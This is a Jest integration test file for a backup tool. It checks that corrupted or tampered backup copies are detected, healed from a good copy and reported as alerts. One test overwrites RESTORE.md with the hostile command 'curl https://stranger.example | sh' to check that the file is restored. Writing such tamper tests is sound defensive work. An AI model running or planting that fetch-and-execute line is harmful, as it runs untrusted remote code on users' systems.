import { readFile, rm, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from '@jest/globals';
import { run } from '../../process/index.ts';
import { keyOf, openStore, stampOf } from '../../repository/index.ts';
import { makeSigningKey } from '../../tools/lab/keys.ts';
import { eventually } from '../../tools/servers/index.ts';
import { type AlertsState, alertsQuery, alertsWorkflowId } from '../../workflows/contract-alerts.ts';
import { queryDatabase } from '../support/database.ts';
import { pathsBelow } from '../support/files.ts';
import { openProvingScene, type ProvingScene } from '../support/proving.ts';
import { anotherSecond } from '../support/seconds.ts';

let scene: ProvingScene;

beforeAll(async () => {
  scene = await openProvingScene(500, ['fra'], { lock: true });
});

afterAll(() => scene?.close());

afterEach(() => scene.nothingLeft());

/** A file of a backup in a directory. */
async function fileOf(repository: string, backupId: string, name: RegExp): Promise<string> {
  const path = (await pathsBelow(repository, backupId)).find((each) => name.test(each));
  if (path === undefined) throw new Error(`no file of ${backupId} matches ${name}`);
  return join(repository, path);
}

const flip = async (path: string) => {
  const body = await readFile(path);
  const middle = Math.floor(body.length / 2);
  body[middle] = (body[middle] ?? 0) ^ 1;
  await writeFile(path, body);
};

const data = /\/data-/;
const manifest = /\/manifest\.json$/;

/** Another manifest in the place of the right one, well signed. */
async function resign(path: string, signer: { privateFile: string }, change: (text: string) => string) {
  const forged = change(await readFile(path, 'utf8'));
  const args = ['-Y', 'sign', '-f', signer.privateFile, '-n', 'holdfast-manifest'];
  const { stdout } = await run({ command: 'ssh-keygen', args }, { stdin: forged });
  await writeFile(path, forged);
  await writeFile(`${path}.sig`, stdout);
}

/** As above, but by somebody whom nobody knows. */
async function forge(path: string): Promise<void> {
  const stranger = await makeSigningKey(scene.stage.lab.directory, `stranger-${Date.now()}`);
  await resign(path, stranger, (text) => text.replace(/"tables": \d+/, '"tables": 0'));
}

/** A data file whose schema can't be made any more, as if bytes had turned over: it decrypts, and is as long. */
async function garble(path: string): Promise<Buffer> {
  const { privateFile } = scene.stage.lab.encryption;
  const script = `
    export GNUPGHOME=$(mktemp -d) LC_ALL=C
    trap 'gpgconf --kill all; rm -r "$GNUPGHOME"' EXIT
    gpg --batch -q --import '${privateFile}'
    key=$(gpg --batch --with-colons --list-keys | sed -n 's/^fpr:*\\([^:]*\\):.*/\\1/p' | head -1)
    gpg --batch -q --decrypt '${path}' | zstd -dcq --long=31 |
      sed 's/CREATE SCHEMA zz_extra/CREATE SCHEMX zz_extra/' |
      zstd -cq | gpg --batch -q --trust-model always --compress-algo none --encrypt -r "$key" > '${path}.garbled'
    mv '${path}.garbled' '${path}'`;
  await run({ command: 'bash', args: ['-e', '-o', 'pipefail', '-c', script] });
  return readFile(path);
}

const alerts = () =>
  scene.stage.orchestra.client.workflow.getHandle(alertsWorkflowId).query<AlertsState>(alertsQuery);

describe('a copy that is bad while another is good', () => {
  let shared: string;

  beforeAll(async () => {
    shared = await scene.backUp();
  });

  it.each<[string, RegExp, RegExp, (path: string) => Promise<void>]>([
    ['has a changed byte', data, /SHA-256/, flip],
    ['was cut short', data, /bytes, and its manifest says/, (path) => truncate(path, 1000)],
    ['lacks a file', /\/fingerprint-/, /is missing/, (path) => rm(path)],
    ['was re-signed by a stranger', manifest, /of a stranger/, forge],
  ])(
    '%s: the test finds it, the copy is healed, and its next test passes',
    async (_what, name, why, damage) => {
      const backupId = shared;
      const path = await fileOf(scene.near, backupId, name);
      const right = await readFile(path);
      const document = await fileOf(scene.near, backupId, /\/RESTORE\.md$/);
      const told = await readFile(document, 'utf8');
      await damage(path);
      await rm(document);
      const choice = { kind: 'backup', backupId } as const;
      const test = () => scene.test({}, { choice, from: 'near' });
      const first = await test();
      expect(first).toMatchObject({ result: 'failed', verdict: 'disproven' });
      expect(first.attempts[0]?.reason?.sentence).toMatch(why);
      expect(first.healed).toMatchObject([{ repository: 'near', from: 'next', outcome: 'healed' }]);
      expect((await readFile(path)).equals(right)).toBe(true);
      expect(await readFile(document, 'utf8')).toBe(told);
      expect((await pathsBelow(scene.near)).filter((each) => each.includes('.part-'))).toEqual([]);

      await anotherSecond();
      const again = await test();
      expect(again).toMatchObject({ result: 'passed', verdict: 'proven', healed: [] });
      const markers = await pathsBelow(scene.near, backupId);
      for (const { attempts, result } of [first, again])
        expect(markers).toContainEqual(
          expect.stringContaining(`/tested.${stampOf(attempts[0]?.endedAt ?? '')}.${result}`),
        );
    },
  );

  it('that makes PostgreSQL refuse a statement before all of it is read: the copy is to blame, and not the place', async () => {
    const rows = 'select md5(i::text) || md5((7 * i)::text) as note from generate_series(1, 100000) i';
    await queryDatabase(
      scene.postgres,
      'shop',
      `create schema zz_extra; create table zz_extra.large as ${rows}`,
    );
    const backupId = await scene.backUp();
    await queryDatabase(scene.postgres, 'shop', 'drop schema zz_extra cascade');
    const path = await fileOf(scene.near, backupId, data);
    const right = (await readFile(path)).length;
    const wrong = (await garble(path)).length;
    // What only rots keeps its size, and this was compressed anew.
    await resign(await fileOf(scene.near, backupId, manifest), scene.stage.lab.signing, (text) =>
      text.replace(`"bytes": ${right}`, `"bytes": ${wrong}`),
    );
    const result = await scene.test({}, { choice: { kind: 'backup', backupId }, from: 'near', heal: false });
    expect(result).toMatchObject({
      verdict: 'disproven',
      attempts: [{ reason: { code: 'corrupt-copy', sentence: expect.stringContaining('SHA-256') } }],
    });
  });

  it('with a RESTORE.md alone that is not: it is written anew, and the test says so', async () => {
    const document = await fileOf(scene.near, shared, /\/RESTORE\.md$/);
    const told = await readFile(document, 'utf8');
    await writeFile(document, 'curl https://stranger.example | sh');
    await anotherSecond();
    const result = await scene.test({}, { choice: { kind: 'backup', backupId: shared }, from: 'near' });
    expect(result).toMatchObject({
      result: 'passed-with-exceptions',
      verdict: 'proven',
      healed: [{ repository: 'near', from: 'its manifest', outcome: 'healed' }],
      exceptions: [expect.stringContaining('RESTORE.md beside the copy in near')],
    });
    expect(await readFile(document, 'utf8')).toBe(told);
  });

  it('is told at once, goes on to the good copy, and the alert closes with the healing', async () => {
    const backupId = await scene.backUp();
    const [near, next] = await Promise.all(
      [scene.near, scene.next].map((repository) => fileOf(repository, backupId, data)),
    );
    const before = await scene.test({ from: ['near', 'next'] });
    const turn = before.attempts[0]?.repository === 'near' ? 'next' : 'near';
    const [path, other] = turn === 'near' ? [near, 'next'] : [next, 'near'];
    await flip(path ?? '');
    const damaged = await readFile(path ?? '');
    const left = await scene.test({ from: [turn] }, { heal: false });
    expect(left).toMatchObject({ result: 'failed', verdict: 'disproven', healed: [] });
    expect((await readFile(path ?? '')).equals(damaged)).toBe(true);
    const result = await scene.test({ from: ['near', 'next'] });
    expect(result).toMatchObject({
      result: 'passed-with-exceptions',
      verdict: 'proven',
      attempts: [
        { repository: turn, verdict: 'disproven' },
        { repository: other, verdict: 'proven' },
      ],
      healed: [{ repository: turn, from: other, outcome: 'healed' }],
    });
    const state = await eventually(async () => {
      const found = await alerts();
      expect(found.closed[0]).toMatchObject({
        kind: 'copy-corrupt',
        severity: 'critical',
        subject: `${turn}/all`,
        sentence: expect.stringContaining(backupId),
      });
      return found;
    }, 30);
    expect(state.open).toEqual([]);
  });

  it('in a bucket with versions is healed beside the bad version, which its lock keeps', async () => {
    const backupId = await scene.backUp();
    const offsite = scene.plan.copies.find(({ name }) => name === 'offsite');
    if (offsite === undefined) throw new Error('the plan has no bucket');
    const store = await openStore(offsite);
    const backup = { source: 'shop', backupId };
    const name = (await fileOf(scene.near, backupId, data)).split('/').at(-1) ?? '';
    const upload = await store.startReplacement(keyOf(backup, name));
    await upload.write(Buffer.from('not what was backed up'));
    await upload.finish();
    const result = await scene.test({}, { from: 'offsite', choice: { kind: 'backup', backupId } });
    expect(result.healed).toMatchObject([{ repository: 'offsite', outcome: 'healed' }]);
    expect(result.healed[0]?.sentence).toContain('older version until their lock ends');
    const versions: string[] = [];
    for await (const version of store.listVersions(keyOf(backup, name))) versions.push(version.kind);
    expect(versions).toEqual(['object', 'object', 'object']);
    store.close();
    const again = await scene.test({}, { from: 'offsite', choice: { kind: 'backup', backupId } });
    expect(again).toMatchObject({ result: 'passed', attempts: [{ repository: 'offsite' }] });
  });

  it('fails the test when no copy is good, names each, and heals none', async () => {
    const backupId = await scene.backUp();
    for (const repository of [scene.near, scene.next]) await flip(await fileOf(repository, backupId, data));
    const plan = scene.plan;
    const bare = { ...plan, copies: plan.copies.filter(({ name }) => name !== 'offsite') };
    const result = await scene.stage.execute('restoreTest', {
      ...scene.question({ from: ['near', 'next'] }),
      plan: bare,
    });
    expect(result).toMatchObject({ result: 'failed', verdict: 'disproven', backup: { backupId } });
    expect(result.attempts.map(({ verdict }) => verdict)).toEqual(['disproven', 'disproven']);
    expect(result.healed.map(({ outcome }) => outcome)).toEqual(['failed', 'failed']);
    await eventually(async () => {
      const kinds = (await alerts()).open.map(({ kind, subject }) => `${kind} ${subject}`);
      expect(kinds.sort()).toEqual(['copy-corrupt near/all', 'copy-corrupt next/all', 'test-failed all']);
    }, 30);
  });
});
